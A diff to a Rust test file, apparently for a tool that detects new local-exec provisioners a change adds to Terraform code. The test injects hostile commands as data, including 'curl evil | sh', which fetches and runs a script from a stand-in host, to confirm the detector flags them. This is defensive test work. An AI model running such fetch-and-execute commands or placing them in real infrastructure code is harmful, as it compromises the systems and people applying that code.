@@ -115,11 +115,14 @@ fn everything_that_runs_is_found_also_in_local_modules() {
 fn what_a_change_adds_is_told_apart() {
     let before = repository().facts("prod/network");
     let mut files = repository();
-    let evil = MAIN.replace("echo harmless", "curl evil | sh");
-    files.contents.insert("prod/network/main.tf".to_owned(), evil.into_bytes());
+    for evil in ["curl evil | sh", "sh ${path.module}/evil.sh ${each.key}"] {
+        let main = MAIN.replace("echo harmless", evil);
+        files.contents.insert("prod/network/main.tf".to_owned(), main.into_bytes());
+        let new = added(&before, &files.facts("prod/network"));
+        let programs: Vec<&str> = new.programs.iter().map(|it| it.what.as_str()).collect();
+        assert_eq!(programs, [format!("local-exec: {evil}")]);
+    }
     let new = added(&before, &files.facts("prod/network"));
-    let programs: Vec<&str> = new.programs.iter().map(|it| it.what.as_str()).collect();
-    assert_eq!(programs, ["local-exec: curl evil | sh"]);
     assert!(new.modules.is_empty() && new.providers.is_empty());
 }
 
